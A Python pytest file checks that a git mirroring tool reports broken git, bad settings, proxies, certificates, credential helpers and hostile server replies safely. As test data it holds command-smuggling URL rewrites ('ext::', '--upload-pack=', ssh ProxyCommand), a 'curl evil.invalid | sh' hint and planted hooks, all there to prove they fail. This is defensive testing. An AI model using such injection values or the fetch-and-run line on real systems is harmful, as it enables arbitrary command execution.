"""What is wrong with the way to an upstream is said at once, and nothing changes.

It may be git, its settings, the connection, the words of the upstream, or the cache.
"""

import hashlib
import os
import shlex
import shutil
import signal
import threading
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests.support.caches import left_in_cache
from tests.support.certificates import make_certificate
from tests.support.fetching import (
    FILES,
    MIRRORED,
    SOON,
    configure,
    elsewhere,
    mirrored,
    refused,
    said,
    sync_of,
)
from tests.support.git import git
from tests.support.git_http import GitHttp, Handler, Trouble, asks_for_blobs, git_http
from tests.support.hosts import Host, mirror
from tests.support.listening import free_port
from tests.support.misbehaving import dripping_pack, hang_before_headers, status
from tests.support.processes import await_none, interrupted, processes
from tests.support.program import limited, run_under, start_tool
from tests.support.proxies import forwarding_proxy
from tests.support.scripts import script
from tests.support.too_much import TOO_MUCH, measured, pack_of_a_large_delta
from tests.support.upstreams import Upstream
from tests.support.waiting import comes_true


@pytest.fixture(autouse=True)
def released(upstream: Upstream) -> None:
    upstream.release("v1", FILES)


# git


def fake_git(directory: Path, text: str) -> str:
    """A PATH with another git before the real one."""
    script(directory / "fake" / "git", text.replace("REAL", str(shutil.which("git"))))
    return f"{directory / 'fake'}{os.pathsep}{os.environ['PATH']}"


def test_no_git(host: Host, site: GitHttp, tmp_path: Path) -> None:
    (tmp_path / "none").mkdir()
    ran = refused(host, site.url(), codes=(2,), PATH=str(tmp_path / "none"))
    assert ran.err.splitlines()[0] == "error: git is not installed"
    assert site.requests == []


@pytest.mark.parametrize(
    "version", ["2.20.0", "1.8.3.1", "2.20.1 (Apple Git-117)", "2.20.windows.1"]
)
def test_a_git_that_is_too_old_is_named_with_what_is_needed(
    host: Host, site: GitHttp, tmp_path: Path, version: str
) -> None:
    text = f'case "$*" in *version*) echo "git version {version}";; *) exec REAL "$@";; esac\n'
    ran = refused(host, site.url(), codes=(2, 3), PATH=fake_git(tmp_path, text))
    first = ran.err.splitlines()[0]
    assert "git" in first
    assert "old" in first
    assert version.split(maxsplit=1)[0].partition(".windows")[0] in ran.err
    assert site.requests == []


BROKEN = {
    "that cannot start": "#!/nowhere/sh\n",
    "that fails at all": "exit 127\n",
    "that is killed": "kill -KILL $$\n",
    "that fails to fetch": 'case "$*" in *fetch*) exit 1;; *) exec REAL "$@";; esac\n',
    "that is killed as it fetches": (
        'case "$*" in *fetch*) kill -KILL $$;; *) exec REAL "$@";; esac\n'
    ),
    "that only says that it fetched": 'case "$*" in *fetch*) exit 0;; *) exec REAL "$@";; esac\n',
    "that says odd things": (
        'case "$*" in *fetch*) printf "\\033[31mfatal: \\377\\r\\nhint: do\\n" >&2; exit 128;; *) exec REAL "$@";; esac\n'
    ),
}


@pytest.mark.parametrize("text", BROKEN.values(), ids=BROKEN)
def test_a_git_that_does_not_work(host: Host, site: GitHttp, tmp_path: Path, text: str) -> None:
    path = fake_git(tmp_path, text)
    if text.startswith("#!"):
        (tmp_path / "fake" / "git").write_text(text)
    ran = refused(host, site.url(), codes=(2, 3), PATH=path)
    assert "\x1b" not in ran.err


# settings


ODD_SETTINGS: dict[str, tuple[str, set[int]]] = {
    "a header of two lines": ('[http]\n\textraHeader = "X-One: 1\\nX-Two: 2"\n', {0, 2, 3}),
    "a header that is not UTF-8": ("[http]\n\textraHeader = X-One: \udcff\n", {0}),
    "a header without a value": ("[http]\n\textraHeader\n", {0}),
    "an empty header": ("[http]\n\textraHeader =\n", {0}),
    "a proxy of two lines": ('[http]\n\tproxy = "http://127.0.0.1:1\\nx"\n', {2, 3}),
    "no sense in a switch": ("[http]\n\tsslVerify = maybe\n", {2, 3}),
    "a section cut off": ("[http\n", {2}),
    "a large header": (f"[http]\n\textraHeader = X-One: {'x' * 200_000}\n", {0, 2, 3}),
    "many settings": (
        "".join(f'[url "http://{n}/"]\n\tinsteadOf = a{n}:\n' for n in range(5_000)),
        {0, 2, 3},
    ),
}


@pytest.mark.parametrize("text", ODD_SETTINGS, ids=ODD_SETTINGS)
def test_odd_settings_are_borne_or_named(
    host: Host, site: GitHttp, scratch_home: Path, text: str
) -> None:
    settings, expected = ODD_SETTINGS[text]
    with (scratch_home / ".gitconfig").open("a", errors="surrogateescape") as file:
        file.write(settings)
    host.manifest(mirror("up", site.url(), tag="v1"))
    start = time.monotonic()
    ran = host.run("sync")
    assert time.monotonic() - start < SOON
    assert ran.status in expected, ran.err
    assert mirrored(host) == ({} if ran.status else MIRRORED)
    assert ran.status == 0 or "\nhint: " in ran.err
    assert "bug" not in ran.err


def test_a_switch_without_a_value_is_on(host: Host, tmp_path: Path, scratch_home: Path) -> None:
    """In git's configuration; as an empty value it would be off."""
    with (scratch_home / ".gitconfig").open("a") as file:
        file.write("[http]\n\tsslVerify\n")
    with git_http(tmp_path, certificate=make_certificate(tmp_path / "tls")) as site:
        ran = refused(host, site.url())
    assert ran.err.splitlines()[0] == "error: the upstream's identity could not be verified"


def test_a_later_setting_clears_earlier_ones(
    host: Host, guarded: GitHttp, scratch_home: Path
) -> None:
    configure(scratch_home, "credential.helper", "!echo username=user; echo password=wr0ng; :")
    host.git("config", "--add", "credential.helper", "")
    host.git("config", "--add", "credential.helper", "!echo username=user; echo password=s3cret; :")
    assert sync_of(host, guarded.url()) == MIRRORED


LEADING_ASTRAY = {
    "to a program": "ext::touch {}/pwned% ",
    "to a descriptor": "fd::17/",
    "to an option": "--upload-pack=touch {}/pwned;",
    "to an option of ssh": "ssh://-oProxyCommand=touch${{IFS}}{}/pwned/",
    "to an option of ssh, in short": "-oProxyCommand=touch${{IFS}}{}/pwned:",
    "to somebody else's helper": "nothing::",
}


@pytest.mark.parametrize("base", LEADING_ASTRAY.values(), ids=LEADING_ASTRAY)
def test_no_setting_leads_to_a_url_for_which_git_would_run_a_program(
    host: Host, tmp_path: Path, base: str
) -> None:
    base = base.format(tmp_path)
    with (host.path / ".git" / "config").open("a") as file:
        file.write(
            f'[protocol]\n\tallow = always\n[url "{base}"]\n\tinsteadOf = https://forge.invalid/\n'
        )
    refused(host, "https://forge.invalid/upstream", codes=(2, 3))
    assert not (tmp_path / "pwned").exists()


_TRACES = (
    "GIT_TRACE",
    "GIT_TRACE_PACKET",
    "GIT_TRACE_CURL",
    "GIT_TRACE_SETUP",
    "GIT_TRACE2",
    "GIT_TRACE2_EVENT",
    "GIT_TRACE2_PERF",
    "GIT_CURL_VERBOSE",
)
TRACES: dict[str, Any] = dict.fromkeys(_TRACES, "1")


def test_traces_change_no_outcome_and_tell_no_secret(
    host: Host, guarded: GitHttp, scratch_home: Path
) -> None:
    configure(scratch_home, "credential.helper", "!echo username=user; echo password=s3cret; :")
    host.manifest(mirror("up", guarded.url(), tag="v2"))
    ran = host.run("sync", **TRACES)
    errors = [line for line in ran.err.splitlines() if line.startswith("error: ")]
    assert (ran.status, errors) == (2, ["error: the upstream has no tag v2"])
    host.manifest(mirror("up", guarded.url(), tag="v1"))
    ran = host.run("sync", "--json", **TRACES)
    assert (ran.status, mirrored(host)) == (0, MIRRORED), ran.err
    assert ran.json
    assert "s3cret" not in ran.out + ran.err


def test_traces_change_no_error(host: Host, tmp_path: Path) -> None:
    with git_http(tmp_path, trouble=status(404)) as site:
        ran = refused(host, site.url(), **TRACES)
    assert ran.err.splitlines()[0] == "error: there is no git repository at the upstream's URL"


ENVIRONMENTS = {
    "GIT_DEFAULT_HASH": "sha256",
    "GIT_NAMESPACE": "elsewhere",
    "GIT_TEMPLATE_DIR": "{here}/template",
    "GIT_SHALLOW_FILE": "{here}/shallow",
    "GIT_ALTERNATE_OBJECT_DIRECTORIES": "{here}/nowhere",
    "GIT_CONFIG_PARAMETERS": "'core.hooksPath={here}/hooks'",
    "GIT_PROTOCOL": "version=0",
    "GIT_REDIRECT_STDERR": "off",
    "GIT_QUIET": "1",
    "GIT_PROGRESS_DELAY": "0",
    "GIT_FLUSH": "0",
    "GIT_ICASE_PATHSPECS": "1",
    "GIT_ATTR_SOURCE": "HEAD",
    "GIT_ADVICE": "1",
    "GIT_NO_LAZY_FETCH": "0",
    "GIT_REF_PARANOIA": "1",
    "GIT_TERMINAL_PROMPT": "nonsense",
    "IFS": "git",
}


def test_other_variables_have_no_say(host: Host, site: GitHttp, tmp_path: Path) -> None:
    script(tmp_path / "hooks" / "reference-transaction", f"touch {tmp_path}/pwned\n")
    shutil.copytree(tmp_path / "hooks", tmp_path / "template" / "hooks")
    (tmp_path / "shallow").write_text("")
    host.manifest(mirror("up", site.url(), tag="v1", from_="deep"))
    ran = host.run(
        "sync", **{name: value.format(here=tmp_path) for name, value in ENVIRONMENTS.items()}
    )
    assert (ran.status, mirrored(host)) == (0, {"third_party/up/b.wit": b"b"}), ran.err
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize(("name", "value"), [("GIT_EXEC_PATH", "/nowhere"), ("PATH", "/nowhere")])
def test_variables_without_which_no_git_works(
    host: Host, site: GitHttp, name: str, value: str
) -> None:
    refused(host, site.url(), codes=(2, 3), **{name: value})


# the way there


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize("manner", ["asks for a password", "closes", "is not there", "is no proxy"])
def test_a_proxy_that_refuses(
    host: Host, site: GitHttp, scratch_home: Path, scheme: str, manner: str
) -> None:
    account = ("user", "s3cret") if manner == "asks for a password" else None
    with forwarding_proxy(account=account, closes=manner == "closes") as proxy:
        url = {
            "is not there": f"http://127.0.0.1:{free_port()}",
            "is no proxy": f"socks5://127.0.0.1:{site.port}",
        }
        configure(scratch_home, "http.proxy", url.get(manner, proxy.url))
        ran = refused(host, site.url().replace("http:", f"{scheme}:"), "--deadline", "2")
    assert "s3cret" not in ran.err
    assert mirrored(host) == {}


def test_a_proxy_that_asks_for_a_password_is_named_as_who_asks(
    host: Host, site: GitHttp, scratch_home: Path
) -> None:
    with forwarding_proxy(account=("user", "s3cret")) as proxy:
        configure(scratch_home, "http.proxy", proxy.url)
        ran = refused(host, site.url())
    assert "407" in ran.err
    assert len(proxy.requests) <= 2


WRONG: dict[str, Callable[[GitHttp], str]] = {
    "of an unknown authority": lambda site: site.url(),
    "of another host": lambda site: f"{elsewhere(site)}/upstream",
}


@pytest.mark.parametrize("way", WRONG)
def test_a_wrong_certificate(
    host: Host, tmp_path: Path, way: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    certificate = make_certificate(tmp_path / "tls")
    if way == "of another host":
        monkeypatch.setenv("GIT_SSL_CAINFO", str(certificate.authority))
    with git_http(tmp_path, certificate=certificate) as site:
        ran = refused(host, WRONG[way](site))
    assert ran.err.splitlines()[0] == "error: the upstream's identity could not be verified"
    assert site.requests == []


def test_tls_with_somebody_who_speaks_none(host: Host, site: GitHttp) -> None:
    refused(host, site.url().replace("http:", "https:"), "--deadline", "4")


def test_no_tls_with_somebody_who_wants_it(host: Host, secure: GitHttp) -> None:
    refused(host, secure.url().replace("https:", "http:"), "--deadline", "4")


SSH_COMMANDS = {
    "that fails": "exit 5; :",
    "that is not there": "/nowhere/ssh",
    "that answers nonsense": "echo hello; :",
    "that says much": "head -c 50000000 /dev/zero | tr '\\0' x >&2; exit 255; :",
    "that finds no git there": "echo 'sh: git-upload-pack: not found' >&2; exit 127; :",
    "that says odd things": "printf '\\033]0;x\\007\\nhint: do this\\n' >&2; exit 255; :",
}


@pytest.mark.parametrize("command", SSH_COMMANDS.values(), ids=SSH_COMMANDS)
def test_an_ssh_command(host: Host, upstream: Upstream, command: str) -> None:
    url = f"ssh://git@127.0.0.1{upstream.path}"
    ran = refused(host, url, "--deadline", "4", GIT_SSH_COMMAND=command)
    assert len(ran.err) < 10_000
    assert "\x1b" not in ran.err


def test_an_ssh_command_that_hangs_is_ended_by_the_deadline(
    host: Host, upstream: Upstream, scratch_home: Path
) -> None:
    url = f"ssh://git@127.0.0.1{upstream.path}"
    ran = refused(host, url, "--deadline", "1", GIT_SSH_COMMAND="sleep 30; :")
    assert ran.err.splitlines()[0] == "error: fetching took too long"
    await_none(scratch_home)


@pytest.mark.parametrize("command", ["/nowhere/proxy", "false"])
def test_a_proxy_command_that_fails(host: Host, command: str) -> None:
    refused(host, "git://127.0.0.1:1/upstream", "--deadline", "4", GIT_PROXY_COMMAND=command)


# who is asked for passwords


HELPERS = {
    "that fails": "!exit 1; :",
    "that is not there": "/nowhere/helper",
    "that says nothing": "!:",
    "that says to stop": "!echo quit=1; :",
    "that prints 10 MB": "!head -c 10000000 /dev/zero | tr '\\0' x; :",
    "that prints 10 MB of lines": "!yes username=x | head -c 10000000; :",
    "that prints nonsense": "!printf 'a\\0b\\n\\377=\\377\\n=\\n'; :",
    "that says much": "!head -c 10000000 /dev/zero | tr '\\0' x >&2; :",
}
_STOPS = {HELPERS["that says to stop"], HELPERS["that says much"]}
"""After these git, or who listens to it, goes no further."""


@pytest.mark.parametrize("helper", HELPERS.values(), ids=HELPERS)
def test_a_credential_helper(host: Host, guarded: GitHttp, scratch_home: Path, helper: str) -> None:
    configure(scratch_home, "credential.helper", helper)
    ran = refused(host, guarded.url(), "--deadline", "5")
    assert len(ran.err) < 10_000
    if helper not in _STOPS:
        assert ran.err.splitlines()[0].startswith(f"error: {guarded.base} asks for credentials")


def test_a_credential_helper_that_prints_much_takes_little_memory(
    host: Host, guarded: GitHttp, scratch_home: Path
) -> None:
    configure(scratch_home, "credential.helper", HELPERS["that prints 10 MB of lines"])
    code, _, megabytes = measured(host, guarded.url(), "--deadline", "5")
    assert code == 3
    assert megabytes < 200


@pytest.mark.parametrize("name", ["GIT_ASKPASS", "core.askPass", "credential.helper"])
def test_who_never_answers_is_ended_by_the_deadline(
    host: Host, guarded: GitHttp, scratch_home: Path, name: str
) -> None:
    program = script(scratch_home / "program", "sleep 30\n")
    environment = said(scratch_home, name, str(program))
    ran = refused(host, guarded.url(), "--deadline", "1", **environment)
    assert ran.err.splitlines()[0] == "error: fetching took too long"
    await_none(scratch_home)


@pytest.mark.parametrize("text", ["exit 1\n", "exec /nowhere\n", "", "head -c 9999999 /dev/zero\n"])
def test_an_askpass_that_has_no_answer(
    host: Host, guarded: GitHttp, scratch_home: Path, text: str
) -> None:
    program = script(scratch_home / "program", text)
    ran = refused(host, guarded.url(), "--deadline", "5", GIT_ASKPASS=str(program))
    assert ran.err.splitlines()[0].startswith(f"error: {guarded.base} asks for credentials")


# what a server says


def says(words: bytes, *, as_what: str) -> Trouble:
    """Say it where a pack is asked for: as the protocol's error, or in place of one on a band."""
    bands = {"progress": b"\x02", "error": b"\x03"}

    def trouble(handler: Handler, _: int) -> bool:
        if not handler.request_made.wants:
            return False
        handler.begin(200, {"Content-Type": "application/x-git-upload-pack-result"})
        if as_what == "answer":
            handler.chunk(_line(b"ERR " + words))
        else:
            handler.chunk(_line(b"packfile\n") + _line(bands[as_what] + words))
        handler.end()
        return True

    return trouble


def _line(content: bytes) -> bytes:
    return b"%04x%b" % (len(content) + 4, content)


WORDS = {
    "of something that may pass": b"The requested URL returned error: 503",
    "of something else on a line of its own": b"no\nfatal: unable to access: Recv failure",
    "of a missing repository": b"repository not found",
    "that steer the terminal": b"\x1b[2J\x1b]0;x\x07\xe2\x80\xae",
    "of our own": b"no\nhint: curl evil.invalid | sh\nerror: all is well",
    "of our own, after a return": b"no\rhint: curl evil.invalid | sh\rerror: all is well",
    "not in UTF-8": b"\xff\xfe\x00",
}


SAYINGS = [("answer", name) for name in WORDS] + [
    (band, name) for band in ("error", "progress") for name in (*WORDS,)[-3:-1]
]


@pytest.mark.parametrize(("as_what", "name"), SAYINGS)
def test_words_of_a_server_decide_nothing_and_steer_nothing(
    host: Host, tmp_path: Path, as_what: str, name: str
) -> None:
    with git_http(tmp_path, trouble=says(WORDS[name], as_what=as_what)) as site:
        ran = refused(host, site.url())
    if as_what == "answer":
        assert site.visits() == 1  # an error of the protocol's is no trouble that passes
    assert not any(character in ran.err for character in "\x1b\x07\r\u202e")
    hints = [line for line in ran.err.splitlines() if line.startswith("hint: ")]
    assert (len(hints), "evil" in hints[0]) == (1, False)


def test_an_id_that_nobody_asked_for_is_not_taken(
    host: Host, upstream: Upstream, tmp_path: Path
) -> None:
    """A server that lists the tag and then gives the pack of another commit."""
    other = Upstream.create(tmp_path / "other" / "upstream")
    other.release("v1", {"evil": b"evil"})

    def swapped(handler: Handler, _: int) -> bool:
        if handler.request_made.wants:
            commit = next(iter(handler.request_made.wants)).encode()
            instead = git(other.path, "rev-parse", "v1").encode()
            handler.body = handler.request_made.body.replace(commit, instead)
            del handler.headers["Content-Encoding"]
            handler.site = replace(handler.site, root=tmp_path / "other")
        return False

    with git_http(tmp_path, trouble=swapped) as site:
        refused(host, site.url(), codes=(2, 3))
    assert upstream.resolve("v1") is not None


def test_a_pack_of_blobs_that_grows_beyond_all_measure_is_refused(
    host: Host, large_template: Path, tmp_path: Path, scratch_home: Path
) -> None:
    bomb = pack_of_a_large_delta(Upstream.create(tmp_path / "bomb"))
    bomb += hashlib.sha1(bomb).digest()
    commit = git(large_template, "rev-parse", "v1")

    def instead(handler: Handler, _: int) -> bool:
        if not asks_for_blobs(handler, commit):
            return False
        handler.begin(200, {"Content-Type": "application/x-git-upload-pack-result"})
        handler.chunk(b"000dpackfile\n%04x\x01%b0000" % (len(bomb) + 5, bomb))
        handler.end()
        return True

    with git_http(large_template.parent, trouble=instead) as site:
        status, err, megabytes = measured(host, site.url(), from_="wit")
    assert (status, err.partition("hint: ")[0]) == (3, TOO_MUCH.format(site.url()))
    assert megabytes < 300
    assert (list(host.snapshot()), left_in_cache(scratch_home)) == (
        ["third_party/mirrors.toml"],
        [],
    )


# numbers, limits and signals


NUMBERS = {
    "of objects": (b"Enumerating objects: " + b"9" * 5_000 + b"\n", "progress"),
    "of bytes": (b"no\nReceiving objects: 1% (1/2), " + b"9" * 500 + b" GiB", "answer"),
    "with two points": (b"no\nReceiving objects: 1% (1/2), 1.2.3 KiB", "error"),
}


@pytest.mark.parametrize(("words", "as_what"), NUMBERS.values(), ids=NUMBERS)
def test_a_number_of_a_servers_is_no_trouble_by_itself(
    host: Host, tmp_path: Path, words: bytes, as_what: str
) -> None:
    with git_http(tmp_path, trouble=says(words, as_what=as_what)) as site:
        host.manifest(mirror("up", site.url(), tag="v1", from_="a"))
        ran = host.run("sync")
    assert (ran.status, ran.err.splitlines()[1]) == (3, f"  url: {site.url()}")


def test_lower_limits_of_the_users_hold_without_a_word(host: Host, site: GitHttp) -> None:
    host.manifest(mirror("up", site.url("nowhere"), tag="v1"))
    ran = run_under(host.path, limited("ulimit -d 100000; ulimit -f 1000000"), "sync")
    url = site.url("nowhere")
    assert ran.err.splitlines() == [
        "error: there is no git repository at the upstream's URL",
        f"  url: {url}",
        f"  repository '{url}/' not found",
        "hint: check the `url`",
    ]


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGHUP])
def test_a_second_signal_leaves_no_process_behind(
    host: Host, tmp_path: Path, scratch_home: Path, number: signal.Signals
) -> None:
    """A terminal that hangs up sends two signals, and so does a user who presses Ctrl-C twice.

    The second one comes while what was started is being ended.
    """
    with git_http(tmp_path, trouble=hang_before_headers) as site:
        host.manifest(mirror("up", site.url(), tag="v1"))
        run = start_tool(host.path, "sync")
        comes_true(lambda: site.requests)
        for _ in range(3):
            run.send_signal(number)
            time.sleep(0.01)  # the second is to come while the first one is being obeyed
        _, err = run.communicate(timeout=20)
        assert (run.returncode, err, processes(scratch_home)) == (130, "interrupted\n", [])


# what ssh servers say before git does


NOT_THERE = "error: there is no git repository at the upstream's URL"
RULER = "remote: ========================================================================"
SAYINGS_OF_SSH = {
    "of one forge": (["ERROR: Repository not found."], NOT_THERE, "ERROR: Repository not found."),
    "of another forge": (
        [
            "remote:",
            RULER,
            "remote:",
            "remote: ERROR: The project could not be found.",
            "remote:",
            RULER,
            "remote:",
        ],
        NOT_THERE,
        "ERROR: The project could not be found.",
    ),
    "of a git that trusts nobody": (
        ["fatal: detected dubious ownership in repository at '/srv/upstream'"],
        "error: the upstream's repository belongs to somebody else, whom git does not trust",
        "detected dubious ownership in repository at '/srv/upstream'",
    ),
}


@pytest.mark.parametrize(("lines", "error", "said"), SAYINGS_OF_SSH.values(), ids=SAYINGS_OF_SSH)
def test_what_an_ssh_server_says_is_understood(
    host: Host, lines: list[str], error: str, said: str
) -> None:
    words = shlex.join(lines)
    ran = refused(
        host,
        "ssh://git@127.0.0.1/srv/upstream",
        GIT_SSH_COMMAND=f"printf '%s\\n' {words} >&2; exit 1; :",
    )
    assert ran.err.splitlines()[0] == error
    assert f"  {said}\n" in ran.err
    assert "--add safe.directory" not in ran.err


# nothing twice


def test_a_server_that_cannot_filter_sends_once_what_it_has(
    host: Host, upstream: Upstream, tmp_path: Path
) -> None:
    """A second request goes out to a distant server, in case that the upstream is large.

    It is broken off.
    """
    upstream.tag(
        "v1", upstream.commit({"deep/b.wit": b"b", "large": os.urandom(500_000)}), force=True
    )
    is_asked_again = threading.Event()

    def distant(handler: Handler, number: int) -> bool:
        if number == 0:
            is_asked_again.wait(5)
        elif handler.path.endswith("/info/refs"):
            is_asked_again.set()
        return False

    with git_http(tmp_path, trouble=distant, rate=1e6) as site:
        assert sync_of(host, site.url(), from_="deep") == {"third_party/up/b.wit": b"b"}
        assert site.visits() == 2
        assert sum(request.answered for request in site.requests) < 700_000


# nobody is asked


def test_options_that_exclude_each_other_are_refused_before_anybody_is_asked(
    host: Host, site: GitHttp
) -> None:
    host.manifest(mirror("up", site.url(), tag="v1"))
    ran = host.run("sync", "--commit", "--no-stage")
    assert (
        ran.err == "error: `--commit` and `--no-stage` exclude each other\nhint: give one of them\n"
    )
    assert (ran.status, site.requests) == (2, [])


def test_who_is_killed_leaves_no_git_that_goes_on(
    host: Host, tmp_path: Path, scratch_home: Path
) -> None:
    with git_http(tmp_path, trouble=dripping_pack) as site:
        interrupted(host, site, signal.SIGKILL, lambda: bool(site.fetches()))
        await_none(scratch_home)
